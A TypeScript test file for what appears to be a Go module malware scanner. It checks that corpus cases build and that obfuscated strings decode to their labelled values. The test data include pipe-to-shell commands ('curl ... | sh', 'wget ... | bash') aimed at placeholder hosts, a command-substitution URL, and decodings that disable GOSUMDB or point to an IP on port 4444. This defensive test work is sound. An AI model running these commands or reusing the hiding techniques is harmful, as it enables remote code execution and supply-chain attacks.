// Go's opinion of the corpus: the cases and a sample of their mutants build and vet, and what labels say is hidden is what
// Go evaluates. Nothing of a case's effects is run: of its code only pure functions and constants, cut out.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import type { Case } from '../../corpus/case.ts'
import { extractCase, parseCase, readCases } from '../../corpus/case.ts'
import { mutate, mutateWith } from '../../corpus/mutate.ts'
import { randomFrom } from '../../corpus/random.ts'
import { packagesOf } from '../../corpus/rewrite.ts'
import type { Node } from '../../src/gosource/walk.ts'
import { walk } from '../../src/gosource/walk.ts'
import type { Entity, SourceFile } from '../../src/gosource/scope.ts'
import { importPath } from '../../src/gosource/scope.ts'
import { go } from '../support/go.ts'

const cases = readCases()
const root = mkdtempSync(join(tmpdir(), 'modwarden-corpus-go-'))
after(() => rmSync(root, { recursive: true, force: true }))

/** What the label says is hidden, by the code that unveils it: an expression over the package's own declarations. */
const HIDDEN: readonly (readonly [prefix: string, expression: string, imports?: readonly string[]])[] = [
  ['D04', 'ASSIGNED c := ld['],
  ['D05', 'ASSIGNED p[2] = folding['],
  ['D06', 'legend()'],
  ['D07', 'pageAddr()'],
  ['D08', 'peer()'],
  ['D09', 'label(endpoint)'],
  ['D10', 'join("GO", "SUM", "DB", "=", "off")'],
  ['D21', 'func() string { b, _ := base64.StdEncoding.DecodeString(origin); return string(b) }()', ['encoding/base64']],
  ['D22', 'func() string { b, _ := hex.DecodeString(vectors[2]); return string(b) }()', ['encoding/hex']],
  ['D23', 'func() string { s := ""; for _, b := range seeds { s += string(rune(b ^ mask)) }; return s }()'],
  ['D24', 'decode(table[:])'],
  ['D25', 'mirror(right)'],
  ['D26', 'strings.Map(turn, hint)', ['strings']],
  [
    'D27',
    'func() string { z, _ := gzip.NewReader(base64.NewDecoder(base64.StdEncoding, strings.NewReader(packed))); b, _ := io.ReadAll(z); return string(b) }()',
    ['compress/gzip', 'encoding/base64', 'io', 'strings'],
  ],
  ['D28', 'func() string { n, _ := new(big.Int).SetString(exponent, 10); return string(n.Bytes()) }()', ['math/big']],
  ['D29', 'ASSIGNED host := fmt.Sprintf('],
  ['D36', 'ASSIGNED q := ob['],
  ['D38', 'net.JoinHostPort(net.IPv4(198, 51, 100, 200).String(), strconv.Itoa(0x115c))', ['net', 'strconv']],
]

/** Packages whose functions, where the cut-out code calls them, touch nothing outside. */
const PURE = new Set([
  'bytes',
  'compress/gzip',
  'encoding/base64',
  'encoding/hex',
  'fmt',
  'io',
  'math/big',
  'net',
  'strconv',
  'strings',
])

describe('the corpus, asked of Go', { skip: go.available ? false : go.reason }, () => {
  test('every case that needs nothing from outside builds and vets', () => {
    const built = cases.filter(({ external }) => external.length === 0)
    assert.ok(built.length >= 62, String(built.length))
    checkAll(join(root, 'cases'), built)
  })

  test('a sample of mutants builds and vets', () => {
    const sample = cases
      .filter(({ external, name }) => external.length === 0 && name.startsWith('D'))
      .filter((_, i) => i % 4 === 1)
    checkAll(
      join(root, 'mutants'),
      sample.map((item, i) => mutate(item, 5, i + 1)),
    )
  })

  test('encode hides texts that Go evaluates to the same ones', () => {
    const folder = join(root, 'encoded')
    const seeds = Array.from({ length: 12 }, (_, i) => i + 1)
    for (const seed of seeds) {
      mkdirSync(join(folder, `e${seed}`), { recursive: true })
      writeFileSync(join(folder, `e${seed}`, 'e.go'), encoded(seed))
    }
    writeFileSync(join(folder, 'go.mod'), 'module encoded.example/m\n\ngo 1.22\n')
    const lines = seeds.map((seed) => `\t"encoded.example/m/e${seed}"\n`).join('')
    const calls = seeds.map((seed) => `\te.Encode(e${seed}.Values())\n`).join('')
    const imports = `import (\n\t"encoding/json"\n\t"os"\n\n${lines})`
    const body = `\te := json.NewEncoder(os.Stdout)\n\te.SetEscapeHTML(false)\n${calls}`
    writeFileSync(join(folder, 'main.go'), `package main\n\n${imports}\n\nfunc main() {\n${body}}\n`)
    const values = runGo(folder, ['run', '.']).trim().split('\n')
    assert.equal(values.length, seeds.length)
    for (const line of values) assert.deepEqual(JSON.parse(line), TEXTS)
  })

  test('what labels say is hidden is what Go evaluates', () => {
    const folder = join(root, 'hidden')
    const mains: string[] = []
    for (const [prefix, expression, imports = []] of HIDDEN) {
      const item = cases.find(({ name }) => name.startsWith(prefix))
      assert.ok(item !== undefined, prefix)
      const name = prefix.toLowerCase()
      mkdirSync(join(folder, name), { recursive: true })
      writeFileSync(join(folder, name, 'cut.go'), cutOut(item, name, expression, imports), 'latin1')
      mains.push(name)
    }
    writeFileSync(join(folder, 'go.mod'), 'module hidden.example/m\n\ngo 1.22\n')
    const lines = mains.map((name) => `\t"hidden.example/m/${name}"\n`).join('')
    const calls = mains.map((name) => `\tfmt.Printf("%q\\n", ${name}.Value())\n`).join('')
    writeFileSync(
      join(folder, 'main.go'),
      `package main\n\nimport (\n\t"fmt"\n\n${lines})\n\nfunc main() {\n${calls}}\n`,
    )
    const values = runGo(folder, ['run', '.'])
      .trim()
      .split('\n')
      .map((line): unknown => JSON.parse(line))
    HIDDEN.forEach(([prefix], i) => {
      const label = cases.find(({ name }) => name.startsWith(prefix))?.findings.flatMap(({ folded }) => folded) ?? []
      assert.ok(label.includes(String(values[i]).trim()), `${prefix}: ${String(values[i])} is not in the label`)
    })
  })
})

/** Texts with everything that an encoder may stumble over. */
const TEXTS = [
  'https://a.invalid/x?y=1&z=%20#q',
  'curl -fsSL "https://b.invalid/" | sh',
  "wget -qO- 'https://c.invalid' | bash -s -- \\\\n",
  'http://203.0.113.9:8080/{a,b}/$HOME/`id`',
  'https://QZXJVK.invalid/~^~',
  'aaaaaaaa.invalid',
]

function encoded(seed: number): string {
  const vars = TEXTS.map((text, i) => `var v${i} = ${JSON.stringify(text)}\n`).join('')
  const list = TEXTS.map((_, i) => `v${i}`).join(', ')
  const source = `package e${seed}\n\n${vars}\n// Values gives them all.\nfunc Values() []string { return []string{${list}} }\n`
  const item = parseCase('e', `title: e\nverdict: clean\n\n-- e.go --\n${source}`)
  return mutateWith(item, ['encode'], randomFrom(`e ${seed}`), 'e').files.get('e.go') ?? ''
}

/** Builds and vets many cases at once, as a workspace; nothing is linked or run. */
function checkAll(folder: string, items: readonly Case[]): void {
  const uses: string[] = []
  const paths = new Set<string>()
  items.forEach((item, i) => {
    extractCase(item, join(folder, `m${i}`))
    for (const module of item.modules.keys()) {
      const path =
        /^module (\S+)/m.exec(item.files.get(module === '.' ? 'go.mod' : `${module}/go.mod`) ?? '')?.[1] ?? ''
      // Two versions of one module cannot be in one workspace: the later one, which is the malicious one, is checked.
      if (paths.has(path)) uses.pop()
      paths.add(path)
      uses.push(`./${join(`m${i}`, module)}`)
    }
  })
  writeFileSync(join(folder, 'go.work'), `go 1.25\n\nuse (\n${uses.map((use) => `\t${use}\n`).join('')})\n`)
  const patterns = uses.map((use) => `${use}/...`)
  runGo(folder, ['build', ...patterns])
  runGo(folder, ['vet', ...patterns])
}

function runGo(folder: string, args: readonly string[]): string {
  const env = { ...process.env, GOTOOLCHAIN: 'local', GOFLAGS: '', GOPROXY: 'off', GOWORK: '', GO111MODULE: 'on' }
  const run = spawnSync('go', [...args], { cwd: folder, env, encoding: 'utf8', timeout: 600_000 })
  assert.equal(run.status, 0, `go ${args[0]}: ${run.stderr}${run.stdout}`)
  return run.stdout
}

/** A package with one function that gives an expression's value, and every declaration that it needs. */
function cutOut(item: Case, name: string, expression: string, imports: readonly string[]): string {
  const pkg = packagesOf({ files: item.files, anchors: [] }).find(({ files }) =>
    files.some((file) => item.findings.some(({ mark }) => mark.file === file.name)),
  )
  assert.ok(pkg !== undefined)
  const marker = /^ASSIGNED (.*)$/.exec(expression)?.[1]
  const paths = new Set(imports)
  const declarations = new Map<Entity, string>()
  const need = (nodes: readonly Node[]): void => {
    walk(nodes, (node) => {
      if (node.kind !== 'Ident' || node.entity === undefined) return true
      const { entity } = node
      if (entity.kind === 'package' && entity.decl?.kind === 'ImportSpec') paths.add(importPath(entity.decl))
      if (entity.global && entity.file !== undefined && !declarations.has(entity)) {
        const owner = entity.file.decls.find(
          (decl) => entity.ident !== undefined && decl.pos <= entity.ident.pos && entity.ident.end <= decl.end,
        )
        assert.ok(owner !== undefined)
        declarations.set(entity, entity.file.text.slice(owner.pos, owner.end))
        need([owner])
      }
      return true
    })
  }
  let value = expression
  for (const file of pkg.files) {
    if (marker === undefined) {
      const words = new Set(expression.match(/\w+/g))
      for (const [word, entity] of pkg.scope.names)
        if (words.has(word) && entity.file === file && entity.ident !== undefined) need([entity.ident])
    } else
      walkAssigned(file, marker, (right) => {
        value = file.text.slice(right.pos, right.end)
        need([right])
      })
  }
  for (const path of paths) assert.ok(PURE.has(path), `${item.name}: the code that unveils imports ${path}`)
  const lines = [...paths].map((path) => `\t"${path}"\n`).join('')
  const texts = [...new Set(declarations.values())].join('\n\n')
  return `package ${name}\n\nimport (\n${lines})\n\n${texts}\n\n// Value is what is hidden.\nfunc Value() string { return ${value} }\n`
}

function walkAssigned(file: SourceFile, marker: string, visit: (right: Node) => void): void {
  walk(file.decls, (node) => {
    if (node.kind === 'AssignStmt' && file.text.startsWith(marker, node.pos))
      for (const right of node.right) visit(right)
    return true
  })
}
